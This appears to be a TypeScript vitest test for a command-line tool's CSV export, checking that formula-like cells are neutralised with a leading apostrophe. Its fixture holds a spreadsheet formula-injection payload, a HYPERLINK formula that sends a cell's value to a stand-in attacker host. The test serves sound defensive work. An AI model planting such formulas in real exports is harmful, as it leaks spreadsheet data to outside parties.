import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { toCsv } from '../format/write-table.js';
import { emit, type Printable } from './output.js';

const dirs: string[] = [];
afterEach(async () => {
  await Promise.all(dirs.splice(0).map((d) => rm(d, { recursive: true, force: true })));
});

/** A result whose group key is text the researcher did not choose (a product's category value). */
const hostile: Printable = {
  json: () => ({}),
  table: () => '',
  flat: () => ({ columns: ['category', 'count'], rows: [{ category: '=HYPERLINK("https://evil.example/?"&A1)', count: -3 }, { category: 'b', count: 7 }] }),
};

describe('CLI --format csv', () => {
  it('neutralises formula-like text cells (a leading apostrophe) and keeps numbers as numbers', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'fedmesh-csv-'));
    dirs.push(dir);
    const out = join(dir, 'r.csv');
    await emit(hostile, { format: 'csv', out });
    const csv = await readFile(out, 'utf8');
    expect(csv).toBe(`category,count\r\n"'=HYPERLINK(""https://evil.example/?""&A1)",-3\r\nb,7\r\n`);
    // Negative control: the unguarded writer does produce a live formula cell.
    expect(toCsv(hostile.flat()).split('\r\n')[1]!.startsWith('"=HYPERLINK(')).toBe(true);
  });
});
